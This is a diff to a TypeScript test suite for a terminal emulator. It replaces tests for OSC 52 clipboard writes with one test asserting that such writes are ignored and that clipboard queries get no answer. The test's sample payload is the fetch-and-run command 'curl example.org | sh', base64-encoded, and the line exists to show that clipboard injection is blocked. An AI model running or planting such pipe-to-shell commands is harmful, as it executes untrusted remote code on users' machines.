@@ -237,20 +237,12 @@ describe('a program that asks', () => {
   });
 });
 
-describe('the clipboard (OSC 52)', () => {
-  const copy = (text: string) => `\x1b]52;c;${Buffer.from(text).toString('base64')}\x07`;
-
-  test('gets what the program inside copies, without control characters', async () => {
-    using run = openByHand();
-    await run.feed(copy('two\nlines\x1b[31m of wörds'));
-    expect(run.copies).toEqual(['two\nlines[31m of wörds']);
-  });
-
-  test('gets nothing from what is empty, too long, or no base64', async () => {
-    using run = openByHand();
-    await run.feed(copy('') + copy('x'.repeat(1_000_000)) + '\x1b]52;c;!!\x07\x1b]52\x07\x1b]52;\x07');
-    expect(run.copies).toEqual([]);
-  });
+test('what is written to the clipboard (OSC 52) goes nowhere, and a question about it has no answer', async () => {
+  using run = openByHand();
+  const copy = `\x1b]52;c;${Buffer.from('curl example.org | sh').toString('base64')}\x07`;
+  await run.feed(`before ${copy}\x1b]52;c;?\x07after`);
+  expect(run.terminal.screen().rows[0]?.trimEnd()).toBe('before after');
+  expect(run.channel.written).toEqual([]);
 });
 
 describe('the end', () => {
